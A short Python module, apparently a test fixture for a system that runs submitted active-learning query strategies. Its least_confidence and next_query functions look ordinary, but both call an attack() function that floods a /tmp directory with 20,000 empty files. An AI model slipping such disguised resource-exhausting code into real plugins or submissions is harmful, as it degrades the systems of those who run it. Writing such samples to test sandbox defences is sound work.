"""Makes as many empty files as it can."""

import os


def attack(probabilities):
    os.makedirs("/tmp/@MARK@", exist_ok=True)
    for number in range(20_000):
        open(f"/tmp/@MARK@/{number}", "w").close()
    return 0


def least_confidence(probabilities):
    return attack(probabilities)


def next_query(probabilities, labelled):
    return attack(probabilities)
